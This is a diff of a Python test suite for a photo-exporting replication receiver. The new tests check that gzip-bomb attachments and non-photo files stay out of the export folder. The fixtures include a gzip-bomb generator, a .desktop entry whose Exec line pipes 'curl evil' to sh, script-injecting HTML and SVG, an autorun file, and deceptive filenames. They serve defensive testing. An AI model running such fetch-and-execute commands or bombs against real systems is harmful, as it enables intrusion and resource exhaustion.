@@ -232,7 +232,104 @@ def test_gzip_encoded_attachments_are_saved_decoded(receivers):
     r = receiver.session().put(f"{receiver.base}/{receiver.db}/zipped?new_edits=false", data=body,
                                headers={"Content-Type": ctype})
     assert r.status_code in (200, 201), r.text
-    check_folder(receiver.out, {"notes.txt": (text, None), "zipped.jpg": (shot, None)}, started, time.time())
+    check_folder(receiver.out, {"zipped.jpg": (shot, None)}, started, time.time())
+    assert receiver.stop() == 0
+    assert "zipped/notes.txt: not a photo or a video" in receiver.log_text()
+
+
+def gzip_multipart(doc_id: str, name: str, encoded: bytes, length: int | None) -> tuple[str, bytes]:
+    import hashlib
+
+    from replicator import Attachment, build_multipart_related
+    info = {"content_type": "image/jpeg", "revpos": 1, "digest": "md5-" + b64(hashlib.md5(encoded).digest()),
+            "encoding": "gzip", "encoded_length": len(encoded), "follows": True}
+    if length is not None:
+        info["length"] = length
+    rev = rev_of(doc_id)
+    doc = {"_id": doc_id, "_rev": rev, "_revisions": {"start": 1, "ids": [rev[2:]]}, "_attachments": {name: info}}
+    return build_multipart_related(doc, [Attachment(name, info, encoded)])
+
+
+def gzip_bomb(decoded: int, head: bytes = b"\xff\xd8\xff\xe0") -> bytes:
+    """`head` then zeros, `decoded` bytes in all, gzipped (1 GiB makes about 1 MB)."""
+    import zlib
+    z = zlib.compressobj(9, zlib.DEFLATED, 31)
+    out = [z.compress(head)]
+    zeros = bytes(1 << 20)
+    left = decoded - len(head)
+    while left > 0:
+        out.append(z.compress(zeros[:min(left, len(zeros))]))
+        left -= min(left, len(zeros))
+    out.append(z.flush())
+    return b"".join(out)
+
+
+def test_gzip_bomb_attachment_is_not_inflated_into_the_folder(receivers):
+    """A 1 MB upload marked `"encoding": "gzip"` that inflates to 1 GiB (a JPEG header, then zeros): with a
+    `length` that lies it is refused at ingest (400), and so is an encoding other than gzip; declared honestly
+    it is stored but not exported (photos do not compress 1000:1); the receiver's memory stays bounded (the
+    exporter once inflated a megabyte at a time into one array: +1 GiB RSS, and wrote the gigabyte)."""
+    receiver = receivers()
+    receiver.start()
+    size = (1 << 30) + (1 << 20)
+    bomb = gzip_bomb(size)
+    assert len(bomb) < 2 << 20
+    s = receiver.session()
+    url = f"{receiver.base}/{receiver.db}"
+    ctype, body = gzip_multipart("liar", "photo", bomb, 1000)
+    r = s.put(f"{url}/liar?new_edits=false", data=body, headers={"Content-Type": ctype})
+    assert r.status_code == 400 and r.json()["error"] == "bad_request", r.text
+    ctype, body = gzip_multipart("weird", "photo", bomb, size)
+    ctype_other = ctype
+    body_other = body.replace(b'"encoding":"gzip"', b'"encoding":"deflate"').replace(
+        b'"encoding": "gzip"', b'"encoding": "deflate"')
+    r = s.put(f"{url}/weird?new_edits=false", data=body_other, headers={"Content-Type": ctype_other})
+    assert r.status_code == 400 and r.json()["error"] == "bad_request", r.text
+    ctype, body = gzip_multipart("honest", "photo", bomb, size)
+    r = s.put(f"{url}/honest?new_edits=false", data=body, headers={"Content-Type": ctype})
+    assert r.status_code in (200, 201), r.text
+    small = gzip_bomb(50_000)
+    ctype, body = gzip_multipart("fine", "photo", small, 50_000)
+    r = s.put(f"{url}/fine?new_edits=false", data=body, headers={"Content-Type": ctype})
+    assert r.status_code in (200, 201), r.text
+    wait_for_files(receiver.out, 1)
+    time.sleep(0.5)
+    with open(f"/proc/{receiver.proc.pid}/status") as f:
+        peak_kib = next(int(line.split()[1]) for line in f if line.startswith("VmHWM:"))
+    names = os.listdir(receiver.out)
+    assert names == ["fine.jpg"], names
+    assert os.path.getsize(os.path.join(receiver.out, "fine.jpg")) == 50_000
+    assert peak_kib < 300 * 1024, f"peak RSS {peak_kib} KiB"
+    assert receiver.stop() == 0
+    log = receiver.log_text()
+    assert f"honest/photo: gzip-encoded, {len(bomb)} bytes declaring {size}: a bomb" in log, log[-2000:]
+
+
+def test_attachments_that_are_not_photos_stay_out_of_the_folder(receivers):
+    """`.desktop`, `.html`, `.svg`, `.exe`, `autorun.inf` (and an HTML page named like a photo) were written into
+    `--out` next to the user's pictures; only photos and videos recognised by their bytes are, the rest stays in
+    the database and is listed in the summary."""
+    rng = random.Random(6)
+    receiver = receivers()
+    started = time.time()
+    receiver.start()
+    shot = photo("jpg", 20_000, rng)
+    hostile = {
+        "run.desktop": ("application/x-desktop", b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil|sh'\n"),
+        "page.html": ("text/html", b"<html><script>alert(1)</script></html>"),
+        "pic.svg": ("image/svg+xml", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
+        "setup.exe": ("application/octet-stream", b"MZ\x90\x00" + bytes(200)),
+        "autorun.inf": ("text/plain", b"[autorun]\nopen=setup.exe\n"),
+        "fake.jpg": ("image/jpeg", b"<html>not a jpeg</html>"),
+    }
+    docs = [inline_doc("mixed", {"IMG_1.JPG": ("image/jpeg", shot), **hostile})]
+    bulk(receiver, docs)
+    check_folder(receiver.out, {"IMG_1.JPG": (shot, None)}, started, time.time())
+    assert receiver.stop() == 0
+    log = receiver.log_text()
+    assert "Kept in the database, not saved to the folder: 6 attachments" in log, log[-2000:]
+    for name in hostile:
+        assert f"mixed/{name}: not a photo or a video" in log
 
 
 def test_password_is_never_written_to_disk(receivers):
@@ -283,9 +380,10 @@ def test_hostile_and_awkward_names(receivers):
         ("d9", "copy two.jpg", "image/jpeg", same, None),
         ("d10", "my holiday \U0001f3d6\ufe0f at the cafe\u0301.jpg", "image/jpeg", jpg(),
          "my holiday \U0001f3d6\ufe0f at the caf\u00e9.jpg"),
-        ("nothing known", "photo", "application/octet-stream", photo("raw", 2_500, rng), "nothing known"),
+        # Bytes that are no photo or video stay in the database, whatever the name says.
+        ("nothing known", "photo", "application/octet-stream", photo("raw", 2_500, rng), None),
         ("-rf *", "attachment", "image/jpeg", jpg(), "rf *.jpg"),
-        ("d13", "evil\u202egpj.exe", "application/octet-stream", photo("raw", 100, rng), "evilgpj.exe"),
+        ("d13", "evil\u202egpj.exe", "application/octet-stream", photo("raw", 100, rng), None),
         ("d14", "...", "image/gif", photo("gif", 100, rng), "d14.gif"),
     ]
     for doc_id, name, ctype, data, _ in cases:   # one request each: the export order is the write order
